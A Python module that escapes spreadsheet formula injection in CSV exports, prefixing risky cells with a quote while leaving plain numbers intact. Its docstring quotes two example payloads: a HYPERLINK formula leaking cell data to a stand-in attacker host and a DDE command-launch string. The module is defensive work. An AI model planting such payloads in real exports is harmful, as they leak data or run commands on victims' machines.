"""CSV cells that a spreadsheet shows as text and never runs (OWASP "CSV injection").

Excel, LibreOffice and Google Sheets take a cell that starts with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return as a formula: a device's string value or an event description such as
``=HYPERLINK("https://evil.example/?"&A1)`` or ``-2+3+cmd|' /C calc'!A0`` would run when
someone opens an export. Following OWASP, such a cell gets a single quote in front
(``'=HYPERLINK(...)``), which every spreadsheet shows as the text itself; the writer is the
``csv`` module, which quotes a cell holding the separator, a quote or a line break and doubles
its quotes, so no value can start a cell of its own.

One exception, on purpose: a cell that is a plain decimal number (``-3.5``, ``+1``, ``-1e-3``),
or plain numbers separated by commas (a location's ``lon,lat``), stays as it is. Made of digits,
a sign, a point and an exponent only, it cannot call a function or name a cell, and quoting it
would turn every negative temperature of an export into text. ``-2+3`` or ``-1,cmd`` is not
such a number and is escaped.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?"
_NUMBERS = re.compile(rf"{_NUMBER}(?:,{_NUMBER})*")


def safe_cell(text: str) -> str:
    """``text``, with a single quote in front if a spreadsheet would take it for a formula."""
    if text.startswith(FORMULA_STARTS) and not _NUMBERS.fullmatch(text):
        return "'" + text
    return text


def safe_row(cells: Iterable[str]) -> list[str]:
    """Every cell of a row through :func:`safe_cell`."""
    return [safe_cell(cell) for cell in cells]
